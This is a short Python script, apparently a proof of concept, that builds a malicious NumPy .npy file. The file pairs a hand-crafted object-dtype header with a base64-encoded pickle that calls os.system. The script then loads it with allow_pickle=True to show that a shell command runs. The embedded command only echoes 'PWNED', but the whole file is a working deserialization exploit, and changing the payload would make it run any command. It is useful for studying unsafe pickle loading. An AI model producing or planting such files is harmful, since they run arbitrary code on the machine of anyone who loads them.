import numpy as np
import io
import base64
# a crafted pickle: os.system via GLOBAL/REDUCE, saved as an object .npy
payload = base64.b64decode("gASVMgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjBdlY2hvIFBXJydORUQ6IHNoZWxsIHJhbpSFlFKULg==")
with open("evil.npy", "wb") as f:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (), }"
    header = header + " " * (63 - len(header) % 64) + "\n"
    f.write(b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + payload)
print("PW" + "NED:", np.load("evil.npy", allow_pickle=True))
